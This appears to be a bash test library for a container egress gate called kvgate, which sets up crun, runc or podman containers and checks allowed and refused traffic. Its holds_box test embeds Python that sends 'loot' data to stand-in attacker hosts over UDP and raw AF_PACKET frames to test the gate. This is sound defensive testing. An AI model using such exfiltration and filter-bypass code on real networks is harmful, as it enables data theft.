# SPDX-License-Identifier: BSD-2-Clause
# shellcheck shell=bash
#
# What tests of real containers are written with, on top of ../lib.sh: the client is one that a runtime
# has made, with a cgroup, a root file system and capabilities of its own, CAP_NET_RAW among them. Its
# network namespace is made before it, as Kubernetes does that, and its interface is put there by the test.
#
#	. "$(dirname "$0")/lib.sh"
#	box runc tcp/443
#	run_box
#	gate
#
# Mounts are the test's own, so that whatever a runtime leaves behind is gone with it. There the layout of
# cgroups is always the pure one, which all runtimes know.
if [[ -z ${KVGATE_OWN_MOUNTS-} && $EUID == 0 ]]; then
	KVGATE_OWN_MOUNTS=1 exec unshare --mount -- "$0" "$@"
fi
if [[ -d /sys/fs/cgroup/unified && ${KVGATE_OWN_MOUNTS-} ]]; then
	PURE=$(mktemp -d)
	mount --bind /sys/fs/cgroup/unified "$PURE"
	umount --recursive --lazy /sys/fs/cgroup
	mount --move "$PURE" /sys/fs/cgroup
	rmdir "$PURE"
fi

# shellcheck source=../lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"

RUNTIME=  # crun, runc, podman
OCI=()    # its command, of the first two
BOX=$SANDBOX-box
# shellcheck disable=SC2034 # sidecar() of ../lib.sh
SIDECAR=
FIRST=(sleep 1000) # what the container runs

# box RUNTIME SERVICE...: client, host and server, and a container in the client's namespace that waits to
# be started; $INSIDE is its process, $CG its cgroup
box() {
	RUNTIME=$1
	need_program "$RUNTIME"
	need_program bpftool
	need_program jq
	[[ -n $CGROUPS ]] || skip "no cgroup v2 is mounted"
	on_exit restore_controllers "$(<"$CGROUPS/cgroup.subtree_control")"
	arena "${@:2}"
	make_root
	on_exit remove_box
	"make_by_$RUNTIME"
}

# Runtimes hand controllers down to the cgroups that they make, and do not take them back.
restore_controllers() {
	local controller
	for controller in $(<"$CGROUPS/cgroup.subtree_control"); do
		[[ " $1 " == *" $controller "* ]] || echo "-$controller" >"$CGROUPS/cgroup.subtree_control"
	done
}

# The machine's programs, and nothing else of it but the tests and their scratch.
make_root() {
	local name
	ROOT=$SCRATCH/root
	mkdir -p "$ROOT"/{usr,proc,dev,etc,tmp} "$ROOT$TOP" "$ROOT$SCRATCH"
	for name in bin sbin lib lib64; do
		[[ ! -L /$name ]] || ln -s "usr/$name" "$ROOT/$name"
	done
	[[ -L $ROOT/bin ]] || skip "/bin is no part of /usr here"
}

# make_bundle CGROUP: an OCI bundle; CGROUP "" leaves that to the runtime
make_bundle() {
	BUNDLE=$SCRATCH/bundle
	mkdir "$BUNDLE"
	jq -n --arg root "$ROOT" --arg top "$TOP" --arg scratch "$SCRATCH" --arg cgroup "$1" \
		--arg netns "/run/netns/$CLIENT" '
		def bind($path; $mode): {destination: $path, type: "none", source: $path, options: ["bind", $mode]};
		["CAP_NET_RAW", "CAP_NET_BIND_SERVICE", "CAP_KILL"] as $capabilities | {
			ociVersion: "1.0.2",
			root: {path: $root},
			process: {
				user: {uid: 0, gid: 0}, cwd: "/", args: $ARGS.positional, noNewPrivileges: true,
				env: ["PATH=/usr/sbin:/usr/bin"],
				capabilities: {bounding: $capabilities, effective: $capabilities, permitted: $capabilities}
			},
			mounts: [
				{destination: "/proc", type: "proc", source: "proc"},
				bind("/usr"; "ro"), bind($top; "ro"), bind($scratch; "rw")
			],
			linux: ({
				namespaces: [{type: "pid"}, {type: "mount"}, {type: "ipc"}, {type: "uts"},
					{type: "network", path: $netns}]
			} + if $cgroup == "" then {} else {cgroupsPath: $cgroup} end)
		}' --args -- "${FIRST[@]}" >"$BUNDLE/config.json"
}

# oci ARGUMENT...: the runtime, by its own state
oci() { "${OCI[@]}" --root "$SCRATCH/oci" "$@"; }

# It stays in the cgroup that it is called in.
make_by_crun() {
	OCI=(crun --cgroup-manager=disabled)
	make_bundle ""
	# shellcheck disable=SC2016
	inside_cgroup "$CG" "${OCI[@]}" --root "$SCRATCH/oci" create --bundle "$BUNDLE" "$BOX" </dev/null >"$SCRATCH/oci.log" 2>&1 ||
		skip "crun makes no container here: $(<"$SCRATCH/oci.log")"
	INSIDE=$(oci state "$BOX" | jq .pid)
}

# It makes the container's cgroup.
make_by_runc() {
	OCI=(runc)
	make_bundle "${CG#"$CGROUPS"}/box"
	oci create --bundle "$BUNDLE" "$BOX" </dev/null >"$SCRATCH/oci.log" 2>&1 ||
		skip "runc makes no container here: $(<"$SCRATCH/oci.log")"
	INSIDE=$(oci state "$BOX" | jq .pid)
	CG=$CG/box
}

podman() {
	command podman --root "$SCRATCH/podman" --runroot "$SCRATCH/podman.run" --tmpdir "$SCRATCH/podman.tmp" \
		--storage-driver vfs --cgroup-manager cgroupfs --events-backend none --runtime runc "$@"
}

make_podman_box() {
	podman create --name "$BOX" --cgroup-parent "${CG#"$CGROUPS"}" --network "ns:/run/netns/$CLIENT" \
		--pids-limit 0 --ulimit nofile=1024:1024 --ulimit nproc=1024:1024 --cap-add NET_RAW \
		--pidfile "$SCRATCH/box.pid" -v /usr:/usr:ro -v "$TOP:$TOP:ro" -v "$SCRATCH:$SCRATCH" \
		--rootfs "$ROOT" "${FIRST[@]}" || return 1
	podman init "$BOX"
}

# The same by way of podman, from a root file system, since no image can be had.
make_by_podman() {
	if ! make_podman_box >"$SCRATCH/oci.log" 2>&1; then
		skip "podman makes no container here: $(<"$SCRATCH/oci.log")"
	fi
	INSIDE=$(<"$SCRATCH/box.pid")
	CG=$CGROUPS$(sed -n 's/^0:://p' "/proc/$INSIDE/cgroup")
}

# run_box: the container's first instruction
run_box() {
	if [[ $RUNTIME == podman ]]; then
		podman start "$BOX" >/dev/null
	else
		oci start "$BOX"
	fi
}

# remove_box: as its user would
remove_box() {
	if [[ $RUNTIME == podman ]]; then
		podman rm --force --time 0 "$BOX" >/dev/null
	else
		oci delete --force "$BOX"
	fi
} 2>/dev/null

# Instead of ../../lib.sh's: by the runtime, into the container. crun without a cgroup manager stays where
# it is called, here as well.
gated() {
	local exec=("${OCI[@]}" --root "$SCRATCH/oci" exec "$BOX")
	case $RUNTIME in
	crun) exec=(inside_cgroup "$CG" "${exec[@]}") ;;
	podman) exec=(podman exec "$BOX") ;;
	esac
	"${exec[@]}" env EVIL4="${EVIL4-}" EVIL6="${EVIL6-}" GOOD4="$GOOD4" GOOD6="$GOOD6" ROUND="${ROUND-}" \
		PYTHONPATH="$PYTHONPATH" PYTHONDONTWRITEBYTECODE=1 "$@"
}

# loaded: the ids of what is pinned here, a line each: "prog 7", "map 8"
loaded() {
	local kind pin
	for kind in prog map; do
		for pin in "$SCRATCH"/bpf/*/"$kind"s/*; do
			echo "$kind $(bpftool -j "$kind" show pinned "$pin" | jq .id)"
		done
	done
}

# unloaded KIND ID...: none of them is in the kernel any more
unloaded() {
	while (($#)); do
		! bpftool "$1" show id "$2" || return 1
		shift 2
	done
}

# nothing_remains ID...: of what loaded() said, and nothing on the interface
nothing_remains() {
	nothing_attached
	wait_for 5 unloaded "$@" || fail "still in the kernel: $(for i in prog map; do bpftool "$i" show | grep kvg_; done)"
}

port_gone() { ! ip -n "$HOST" link show "$PORT"; }

# holds_box RUNTIME: what such a container can do before the gate, behind it, and when it is gone
holds_box() {
	local all said
	box "$1" tcp/443 udp/9000
	run_box
	attack_by <<-'PYTHON'
		from attacker import *
		with attempt("TCP"):
		    tcp(EVIL4).connect((EVIL4, 443))
		with attempt("UDP"):
		    udp(EVIL4).sendto(loot("udp4"), (EVIL4, 9000))
		    udp(EVIL6).sendto(loot("udp6"), (EVIL6, 9000))
		with attempt("frames"):
		    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
		    sock.bind(("eth0", 0))
		    for address, tag in ((EVIL4, "evil"), (GOOD4, "good")):
		        packet = ip4(address, 17, udp_body(address, 9000, loot(tag)))
		        sock.send(b"\xff" * 6 + b"\2\0\0\0\0\7\x08\x00" + packet)
	PYTHON
	works stolen:udp4 stolen:udp6 stolen:evil stolen:good "EVIL4"

	gate_by --allow "$GOOD4/32=tcp/443" --allow "$GOOD6/128=tcp/443"
	mapfile -t all < <(loaded | tr ' ' '\n')
	((${#all[@]} > 20)) || fail "so little is loaded: ${all[*]}"
	reached tcp "$GOOD4" 443
	reached tcp "$GOOD6" 443
	reached udp "$GOOD4" 9000
	refused tcp "$OTHER" 443
	refused udp "$OTHER" 9000
	stopped
	recorded connect4 destination
	recorded sendmsg4 destination
	recorded 'tc|sock_create' packet_socket
	same "healthy" true "$(kvgate status --json | jq '.gates[0].healthy')"
	same "interface" client "$(kvgate status --json | jq -r '.gates[0].interfaces[].name')"

	kvgate detach "$CG" >/dev/null
	nothing_remains "${all[@]}"
	works stolen:udp4 stolen:evil

	# The container ends, and then its namespace and the interface.
	gate
	mapfile -t all < <(loaded | tr ' ' '\n')
	remove_box
	ip netns del "$CLIENT"
	wait_for 5 port_gone || fail "the interface outlives its namespace"
	said=$(kvgate status) && fail "its end is not noticed: $said"
	kvgate detach --all >/dev/null
	nothing_remains "${all[@]}" 2>/dev/null
	[[ ! -d $CG || $1 == crun ]] || fail "$CG is left"
}
